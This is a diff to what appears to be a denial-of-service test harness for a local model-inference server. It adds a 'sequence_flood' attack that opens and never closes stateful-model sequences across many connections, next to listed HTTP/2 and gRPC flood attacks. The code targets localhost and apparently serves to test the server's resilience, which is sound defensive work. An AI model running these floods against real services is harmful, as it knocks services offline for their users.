@@ -494,9 +494,61 @@ def grpc_malformed(a: argparse.Namespace) -> dict[str, Any]:
     return {"requests": sum(codes.values()), "codes": dict(codes)}
 
 
+def sequence_flood(a: argparse.Namespace) -> dict[str, Any]:
+    """STARTs of ever new sequences of a stateful model (`a.model`, the demo's
+    silero_vad_stream by default), never ended, one at a time on each of
+    `a.connections` keep-alive connections: live sequences and their state, or
+    waiting STARTs, for as long as the attack runs. A START left waiting when the
+    attack ends is dropped with its connection."""
+    chunk = {"name": "input", "shape": [1, 512], "datatype": "FP32", "data": [0.0] * 512}
+    rate = {"name": "sr", "shape": [], "datatype": "INT64", "data": [16000]}
+    statuses: Counter[str] = Counter()
+    lock, deadline = threading.Lock(), time.monotonic() + a.seconds
+    slowest = [0.0]
+
+    def flood(worker: int) -> None:
+        conn = http.client.HTTPConnection("127.0.0.1", a.port, timeout=a.seconds + 1,
+                                          source_address=(a.source, 0))  # fmt: skip
+        n = 0
+        while time.monotonic() < deadline:
+            n += 1
+            parameters = {"sequence_id": f"flood-{worker}-{n}", "sequence_start": True}
+            body = json.dumps({"inputs": [chunk, rate], "parameters": parameters}).encode()
+            start = time.perf_counter()
+            try:
+                conn.request("POST", f"/v2/models/{a.model}/infer", body)
+                reply = conn.getresponse()
+                reply.read()
+                outcome = str(reply.status)
+            except TimeoutError:
+                outcome = "still waiting"
+            except (OSError, http.client.HTTPException) as exc:
+                outcome = type(exc).__name__
+            with lock:
+                statuses[outcome] += 1
+                slowest[0] = max(slowest[0], time.perf_counter() - start)
+            if outcome != "200" and outcome != "429":
+                conn.close()
+                if outcome == "still waiting":
+                    return
+                conn = http.client.HTTPConnection("127.0.0.1", a.port, timeout=a.seconds + 1,
+                                                  source_address=(a.source, 0))  # fmt: skip
+            if outcome == "429":
+                time.sleep(a.pause)
+        conn.close()
+
+    threads = [threading.Thread(target=flood, args=(i,)) for i in range(a.connections)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join(a.seconds + 5)
+    return {"starts": sum(statuses.values()), "statuses": dict(statuses),
+            "slowest_answer_s": round(slowest[0], 3)}  # fmt: skip
+
+
 ATTACKS = {f.__name__: f for f in (json_nesting, big_bodies, slow_headers, idle_connections,
                                    h2_rapid_reset, h2_ping_flood, h2_settings_flood,
-                                   h2_slow_streams, grpc_malformed)}  # fmt: skip
+                                   h2_slow_streams, grpc_malformed, sequence_flood)}  # fmt: skip
 
 
 def main() -> int:
@@ -511,6 +563,7 @@ def main() -> int:
     parser.add_argument("--pause", type=float, default=0.001)
     parser.add_argument("--connect-pause", type=float, default=0.002)
     parser.add_argument("--max-requests", type=int, default=100_000)
+    parser.add_argument("--model", default="silero_vad_stream", help="sequence_flood's target")
     args = parser.parse_args()
     attack = ATTACKS[args.attack]
     if args.attack == "grpc_malformed":
